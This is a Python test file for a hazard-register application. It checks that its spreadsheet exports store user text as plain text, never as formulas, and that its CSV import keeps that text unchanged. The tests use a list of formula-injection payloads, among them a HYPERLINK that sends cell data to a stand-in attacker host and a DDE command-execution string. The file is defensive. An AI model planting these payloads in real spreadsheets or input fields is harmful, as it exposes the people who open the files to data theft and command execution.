"""Spreadsheets as data (issue 19, finding 1): every cell xuncha writes is text or a
number, never a formula; imports keep the text as given."""

from __future__ import annotations

import io
import uuid
import zipfile
from datetime import date, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, text

from server.models import Region, Site
from tests.conftest import COUNTY1, TOWNSHIP1
from tests.sync.helpers import mutation, push

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "=cmd|' /C calc'!A0",
           "=1+1", "+1+1", "-2+3", "@SUM(1,2)", "\t=1+1", "＝1+1"]


def _formula_free(data: bytes) -> list:
    """Every cell of every sheet; fails on any formula, in openpyxl's view or the XML's."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = load_workbook(io.BytesIO(data))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert all(c.data_type in ("s", "n") for c in cells if c.value is not None)
    return cells


@pytest.fixture
def attacked_register(client, field_auth, make_site):
    """A field account writes formulas into every free-text field that reaches the ledger."""
    headers = field_auth()
    site = make_site(name=ATTACKS[0])
    mutations = []
    for n, attack in enumerate(ATTACKS, start=1):
        mutations.append(mutation(n, "hazard.report", {
            "id": str(uuid.uuid4()), "site_id": str(site.id), "sector": "gas",
            "description": attack, "severity": "general", "source": "self_check",
            "item": f"X{n}", "photos": []}))
    resp = push(client, headers, mutations)
    assert all(r["status"] == "applied" for r in resp.get_json()["results"]), resp.get_json()
    hazard_id = mutations[0]["args"]["id"]
    resp = push(client, headers, [mutation(len(ATTACKS) + 1, "hazard.update", {
        "id": hazard_id, "base_version": 1, "changes": {
            "measures": "=1+1", "responsible_name": "@SUM(1)",
            "deadline": (date.today() + timedelta(days=3)).isoformat()}})])
    assert resp.get_json()["results"][0]["status"] == "applied", resp.get_json()
    return site


def test_the_api_ledger_holds_text_not_formulas(client, auth, attacked_register):
    resp = client.get("/api/v1/exports/hazards.xlsx", headers=auth("county_reviewer", COUNTY1))
    assert resp.status_code == 200
    cells = _formula_free(resp.data)
    values = {c.value for c in cells}
    assert set(ATTACKS) <= values  # the text itself, unchanged
    assert {"=1+1", "@SUM(1)"} <= values
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t", "＝")):
            assert c.quotePrefix, c.value  # stays text when someone edits the cell


def test_the_console_ledger_holds_text_not_formulas(console, attacked_register):
    staff = console("county_reviewer", COUNTY1)
    resp = staff.get("/console/exports/ledger.xlsx")
    assert resp.status_code == 200
    assert set(ATTACKS) <= {c.value for c in _formula_free(resp.data)}


def test_the_bulletin_holds_text_not_formulas(session, regions):
    from server.extensions import register_settings
    from server.register.exports import bulletin_files

    session.execute(text("UPDATE regions SET name = :n WHERE code = :c"),
                    {"n": "=1+1", "c": TOWNSHIP1})
    session.commit()
    county = session.get(Region, COUNTY1)
    xlsx, _pdf = bulletin_files(session, county, date.today() - timedelta(days=7),
                                date.today(), register_settings())
    assert "=1+1" in {c.value for c in _formula_free(xlsx)}


def test_site_import_stores_the_text(session, regions):
    from server.sites.service import import_sites

    csv_text = "name,kind,region_code,address\n" + "\n".join(
        f'"{a.replace(chr(34), chr(34) * 2)}",shop,330502101201,某路1号' for a in ATTACKS[:4])
    assert import_sites(session, csv_text) == 4
    session.commit()
    assert set(session.scalars(select(Site.name))) == set(ATTACKS[:4])
